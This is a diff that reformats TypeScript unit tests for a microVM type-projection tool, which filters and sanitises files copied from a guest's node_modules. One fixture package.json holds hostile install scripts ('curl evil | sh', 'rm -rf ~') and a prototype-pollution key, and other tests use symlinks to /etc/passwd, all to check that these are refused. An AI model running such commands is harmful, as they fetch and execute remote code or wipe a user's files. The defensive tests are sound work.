@@ -17,7 +17,9 @@ const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'microvm-types-unit-'));
 const savedHome = process.env.MICROVM_HOME;
 const protect = [...DEFAULT_PROTECT];
 
-before(() => { process.env.MICROVM_HOME = path.join(tmp, 'home'); });
+before(() => {
+  process.env.MICROVM_HOME = path.join(tmp, 'home');
+});
 after(() => {
   if (savedHome === undefined) delete process.env.MICROVM_HOME;
   else process.env.MICROVM_HOME = savedHome;
@@ -26,13 +28,24 @@ after(() => {
 
 test('declarations and package.json files are kept, under a normalized path', () => {
   assert.deepEqual(judgePath('./left-pad/index.d.ts', protect), { keep: 'declaration', path: 'left-pad/index.d.ts' });
-  assert.deepEqual(judgePath('a/node_modules/b/x.d.mts', protect), { keep: 'declaration', path: 'a/node_modules/b/x.d.mts' });
+  assert.deepEqual(judgePath('a/node_modules/b/x.d.mts', protect), {
+    keep: 'declaration',
+    path: 'a/node_modules/b/x.d.mts',
+  });
   assert.deepEqual(judgePath('./@types/node/fs.d.cts', protect), { keep: 'declaration', path: '@types/node/fs.d.cts' });
   assert.deepEqual(judgePath('./pkg/package.json', protect), { keep: 'package-json', path: 'pkg/package.json' });
 });
 
 test('code, executables by name and everything else are left out', () => {
-  for (const name of ['./pkg/index.js', './pkg/cli', './pkg/index.ts', './pkg/x.d.ts.js', './.bin/tsc', './pkg/binding.node', './pkg/x.d.css.ts']) {
+  for (const name of [
+    './pkg/index.js',
+    './pkg/cli',
+    './pkg/index.ts',
+    './pkg/x.d.ts.js',
+    './.bin/tsc',
+    './pkg/binding.node',
+    './pkg/x.d.css.ts',
+  ]) {
     assert.ok('skip' in judgePath(name, protect), name);
   }
 });
@@ -68,10 +81,21 @@ test('hostile paths are refused: traversal, absolute, control characters, protec
 
 test('package.json keeps only the fields type resolution reads', () => {
   const hostile = {
-    name: 'evil', version: '1.0.0', types: 'index.d.ts', main: 'index.js', exports: { '.': { types: './index.d.ts', default: './index.js' } },
-    typesVersions: { '*': { '*': ['types/*'] } }, type: 'module',
-    scripts: { postinstall: 'curl evil | sh', test: 'rm -rf ~' }, bin: { evil: 'cli.js' }, gypfile: true, config: { a: 1 },
-    workspaces: ['x'], man: 'x.1', directories: { bin: 'b' }, engines: { node: '*' },
+    name: 'evil',
+    version: '1.0.0',
+    types: 'index.d.ts',
+    main: 'index.js',
+    exports: { '.': { types: './index.d.ts', default: './index.js' } },
+    typesVersions: { '*': { '*': ['types/*'] } },
+    type: 'module',
+    scripts: { postinstall: 'curl evil | sh', test: 'rm -rf ~' },
+    bin: { evil: 'cli.js' },
+    gypfile: true,
+    config: { a: 1 },
+    workspaces: ['x'],
+    man: 'x.1',
+    directories: { bin: 'b' },
+    engines: { node: '*' },
   };
   const text = `${JSON.stringify(hostile).slice(0, -1)},"__proto__":{"polluted":true}}`;
   const result = rewritePackageJson(Buffer.from(text));
@@ -85,17 +109,34 @@ test('package.json keeps only the fields type resolution reads', () => {
 });
 
 test('a package.json that is not a JSON object, or too big, is left out', () => {
-  for (const text of ['[1]', '"x"', 'null', '{not json', '']) assert.ok('skip' in rewritePackageJson(Buffer.from(text)), text);
+  for (const text of ['[1]', '"x"', 'null', '{not json', ''])
+    assert.ok('skip' in rewritePackageJson(Buffer.from(text)), text);
   const big = rewritePackageJson(Buffer.from(JSON.stringify({ name: 'x', pad: 'y'.repeat(2 * 1024 * 1024) })));
   assert.ok('skip' in big && /larger than/.test(big.skip));
 });
 
 test('targets are the node_modules volumes inside a filtered share, on the host path they cover', () => {
-  const share = { hostPath: '/home/u/app', guestPath: '/workspaces/app', readOnly: false, symlinks: 'opaque' as const, filter: true, protect, protectPaths: [], git: 'writable' as const };
-  const targets = projectionTargets([share, { ...share, hostPath: '/home/u/other', guestPath: '/other', filter: false }], [
-    { mountPoint: '/workspaces/app/node_modules' }, { mountPoint: '/workspaces/app/web/node_modules' }, { mountPoint: '/workspaces/app/.venv' },
-    { mountPoint: '/other/node_modules' }, { mountPoint: '/cache/node_modules' }, { mountPoint: '/workspaces/app/../x/node_modules' },
-  ]);
+  const share = {
+    hostPath: '/home/u/app',
+    guestPath: '/workspaces/app',
+    readOnly: false,
+    symlinks: 'opaque' as const,
+    filter: true,
+    protect,
+    protectPaths: [],
+    git: 'writable' as const,
+  };
+  const targets = projectionTargets(
+    [share, { ...share, hostPath: '/home/u/other', guestPath: '/other', filter: false }],
+    [
+      { mountPoint: '/workspaces/app/node_modules' },
+      { mountPoint: '/workspaces/app/web/node_modules' },
+      { mountPoint: '/workspaces/app/.venv' },
+      { mountPoint: '/other/node_modules' },
+      { mountPoint: '/cache/node_modules' },
+      { mountPoint: '/workspaces/app/../x/node_modules' },
+    ],
+  );
   assert.deepEqual(targets, [
     { guestDir: '/workspaces/app/node_modules', hostDir: '/home/u/app/node_modules', folder: '/home/u/app' },
     { guestDir: '/workspaces/app/web/node_modules', hostDir: '/home/u/app/web/node_modules', folder: '/home/u/app' },
@@ -109,7 +150,10 @@ test('a node_modules the user made on the host, a link or a path through a link 
   fs.mkdirSync(hostDir);
   assert.equal(checkTarget(folder, hostDir), 'empty');
   fs.writeFileSync(path.join(hostDir, 'left-pad'), 'x');
-  assert.throws(() => checkTarget(folder, hostDir), (err: Error & { code?: string }) => err.code === 'E_TYPE_PROJECTION' && /made on the host/.test(err.message));
+  assert.throws(
+    () => checkTarget(folder, hostDir),
+    (err: Error & { code?: string }) => err.code === 'E_TYPE_PROJECTION' && /made on the host/.test(err.message),
+  );
   fs.writeFileSync(path.join(hostDir, PROJECTION_MARKER), '{}');
   assert.equal(checkTarget(folder, hostDir), 'ours');
   fs.rmSync(hostDir, { recursive: true });
@@ -138,16 +182,37 @@ test('the staging tree writes 0644 files and 0755 directories once each, and rep
   assert.equal(fs.statSync(path.join(hostDir, 'a/b/index.d.ts')).mode & 0o7777, 0o644);
   assert.equal(fs.statSync(path.join(hostDir, 'a/b')).mode & 0o7777, 0o755);
   assert.equal(fs.statSync(hostDir).mode & 0o7777, 0o755);
-  assert.deepEqual(fs.readdirSync(path.join(process.env.MICROVM_HOME as string, 'type-projections')), [], 'no staging left behind');
+  assert.deepEqual(
+    fs.readdirSync(path.join(process.env.MICROVM_HOME as string, 'type-projections')),
+    [],
+    'no staging left behind',
+  );
 });
 
 test('the tar reader reads concatenated archives when asked (a guest find -exec tar writes one per batch)', async () => {
-  const entry = (name: string, body: string): Buffer => Buffer.concat([
-    encodeHeader(newHeader({ path: name, type: 'file', size: body.length })), Buffer.from(body), Buffer.alloc((512 - (body.length % 512)) % 512)]);
-  const stream = Buffer.concat([entry('./a.d.ts', 'a'), endOfArchive(), Buffer.alloc(8192), entry('./b.d.ts', 'b'), endOfArchive()]);
+  const entry = (name: string, body: string): Buffer =>
+    Buffer.concat([
+      encodeHeader(newHeader({ path: name, type: 'file', size: body.length })),
+      Buffer.from(body),
+      Buffer.alloc((512 - (body.length % 512)) % 512),
+    ]);
+  const stream = Buffer.concat([
+    entry('./a.d.ts', 'a'),
+    endOfArchive(),
+    Buffer.alloc(8192),
+    entry('./b.d.ts', 'b'),
+    endOfArchive(),
+  ]);
   const names = async (concatenated: boolean): Promise<string[]> => {
     const seen: string[] = [];
-    for await (const e of readTar((async function* () { yield stream; })(), undefined, { concatenated })) seen.push(e.header.path);
+    for await (const e of readTar(
+      (async function* () {
+        yield stream;
+      })(),
+      undefined,
+      { concatenated },
+    ))
+      seen.push(e.header.path);
     return seen;
   };
   assert.deepEqual(await names(false), ['./a.d.ts']);
@@ -161,63 +226,88 @@ test('a staging tree a killed process left behind is removed by the next project
   const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
   const staging = StagingTree.create(path.join(folder, 'node_modules'), 'absent', undefined);
   assert.equal(fs.existsSync(path.join(home, '.tmp-999999999-abandoned')), false);
-  assert.equal(fs.existsSync(path.join(home, `.tmp-${process.pid}-live`)), true, 'a live writer\'s tree stays');
+  assert.equal(fs.existsSync(path.join(home, `.tmp-${process.pid}-live`)), true, "a live writer's tree stays");
   staging.discard();
   fs.rmSync(path.join(home, `.tmp-${process.pid}-live`), { recursive: true });
 });
 
-test('on another file system than $MICROVM_HOME the tree is staged inside the covered node_modules and swapped entry by entry', { skip: !fs.existsSync('/dev/shm') }, () => {
-  const folder = fs.realpathSync(fs.mkdtempSync('/dev/shm/microvm-types-unit-'));
-  try {
-    assert.notEqual(fs.statSync(folder).dev, fs.statSync(tmp).dev);
-    const hostDir = path.join(folder, 'node_modules');
-    const first = StagingTree.create(hostDir, 'absent', undefined);
-    assert.ok(first.root.startsWith(`${hostDir}/.tmp-${process.pid}-`), first.root);
-    assert.equal(checkTarget(folder, hostDir), 'ours', 'marked from the start: a run killed now leaves a directory the next may replace');
-    first.write('old/index.d.ts', 'export {};');
-    first.write(PROJECTION_MARKER, '{}');
-    first.install(hostDir);
-    const second = StagingTree.create(hostDir, checkTarget(folder, hostDir), undefined);
-    second.write('new/index.d.ts', 'export {};');
-    second.write(PROJECTION_MARKER, '{}');
-    second.install(hostDir);
-    assert.deepEqual(fs.readdirSync(hostDir).sort(), [PROJECTION_MARKER, 'new']);
-    assert.equal(fs.statSync(hostDir).mode & 0o7777, 0o755);
-    const empty = path.join(folder, 'web', 'node_modules');
-    fs.mkdirSync(empty, { recursive: true });
-    StagingTree.create(empty, 'empty', undefined).discard();
-    assert.equal(checkTarget(folder, empty), 'ours', 'an empty node_modules is marked before staging starts in it');
-  } finally {
-    fs.rmSync(folder, { recursive: true, force: true });
-  }
-});
+test(
+  'on another file system than $MICROVM_HOME the tree is staged inside the covered node_modules and swapped entry by entry',
+  { skip: !fs.existsSync('/dev/shm') },
+  () => {
+    const folder = fs.realpathSync(fs.mkdtempSync('/dev/shm/microvm-types-unit-'));
+    try {
+      assert.notEqual(fs.statSync(folder).dev, fs.statSync(tmp).dev);
+      const hostDir = path.join(folder, 'node_modules');
+      const first = StagingTree.create(hostDir, 'absent', undefined);
+      assert.ok(first.root.startsWith(`${hostDir}/.tmp-${process.pid}-`), first.root);
+      assert.equal(
+        checkTarget(folder, hostDir),
+        'ours',
+        'marked from the start: a run killed now leaves a directory the next may replace',
+      );
+      first.write('old/index.d.ts', 'export {};');
+      first.write(PROJECTION_MARKER, '{}');
+      first.install(hostDir);
+      const second = StagingTree.create(hostDir, checkTarget(folder, hostDir), undefined);
+      second.write('new/index.d.ts', 'export {};');
+      second.write(PROJECTION_MARKER, '{}');
+      second.install(hostDir);
+      assert.deepEqual(fs.readdirSync(hostDir).sort(), [PROJECTION_MARKER, 'new']);
+      assert.equal(fs.statSync(hostDir).mode & 0o7777, 0o755);
+      const empty = path.join(folder, 'web', 'node_modules');
+      fs.mkdirSync(empty, { recursive: true });
+      StagingTree.create(empty, 'empty', undefined).discard();
+      assert.equal(checkTarget(folder, empty), 'ours', 'an empty node_modules is marked before staging starts in it');
+    } finally {
+      fs.rmSync(folder, { recursive: true, force: true });
+    }
+  },
+);
 
-test('run as root for another user\'s folder, the projection belongs to that user', { skip: process.getuid?.() !== 0 }, () => {
-  const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
-  const hostDir = path.join(folder, 'node_modules');
-  const staging = StagingTree.create(hostDir, 'absent', { uid: 4321, gid: 4322 });
-  staging.write('pkg/index.d.ts', 'export {};');
-  staging.write(PROJECTION_MARKER, '{}');
-  staging.install(hostDir);
-  for (const rel of ['', 'pkg', 'pkg/index.d.ts', PROJECTION_MARKER]) {
-    const stat = fs.lstatSync(path.join(hostDir, rel));
-    assert.deepEqual([stat.uid, stat.gid], [4321, 4322], rel || 'node_modules');
-  }
-});
+test(
+  "run as root for another user's folder, the projection belongs to that user",
+  { skip: process.getuid?.() !== 0 },
+  () => {
+    const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
+    const hostDir = path.join(folder, 'node_modules');
+    const staging = StagingTree.create(hostDir, 'absent', { uid: 4321, gid: 4322 });
+    staging.write('pkg/index.d.ts', 'export {};');
+    staging.write(PROJECTION_MARKER, '{}');
+    staging.install(hostDir);
+    for (const rel of ['', 'pkg', 'pkg/index.d.ts', PROJECTION_MARKER]) {
+      const stat = fs.lstatSync(path.join(hostDir, rel));
+      assert.deepEqual([stat.uid, stat.gid], [4321, 4322], rel || 'node_modules');
+    }
+  },
+);
 
 test('the guest listing script lists only regular type files, and GNU find and tar (Debian images) write what the reader takes', () => {
   const dir = fs.mkdtempSync(path.join(tmp, 'listing-'));
   const long = `pkg/${'deep-directory-name/'.repeat(8)}index.d.ts`;
-  for (const [rel, text] of [[long, 'export {};'], ['pkg/package.json', '{"name":"pkg"}'], ['pkg/index.js', 'x'], ['pkg/x.d.mts', 'export {};']]) {
+  for (const [rel, text] of [
+    [long, 'export {};'],
+    ['pkg/package.json', '{"name":"pkg"}'],
+    ['pkg/index.js', 'x'],
+    ['pkg/x.d.mts', 'export {};'],
+  ]) {
     fs.mkdirSync(path.dirname(path.join(dir, rel!)), { recursive: true });
     fs.writeFileSync(path.join(dir, rel!), text!);
   }
   fs.symlinkSync('/etc/passwd', path.join(dir, 'pkg', 'passwd.d.ts'));
   fs.symlinkSync('/etc', path.join(dir, 'out'));
-  const stream = execFileSync('/bin/sh', ['-c', GUEST_LISTING_SCRIPT, 'microvm-types', dir], { maxBuffer: 16 * 1024 * 1024 });
+  const stream = execFileSync('/bin/sh', ['-c', GUEST_LISTING_SCRIPT, 'microvm-types', dir], {
+    maxBuffer: 16 * 1024 * 1024,
+  });
   return (async () => {
     const kept: string[] = [];
-    for await (const entry of readTar((async function* () { yield stream; })(), undefined, { concatenated: true })) {
+    for await (const entry of readTar(
+      (async function* () {
+        yield stream;
+      })(),
+      undefined,
+      { concatenated: true },
+    )) {
       assert.equal(entry.header.type, 'file');
       const verdict = judgePath(entry.header.path, protect);
       if ('keep' in verdict) kept.push(verdict.path);
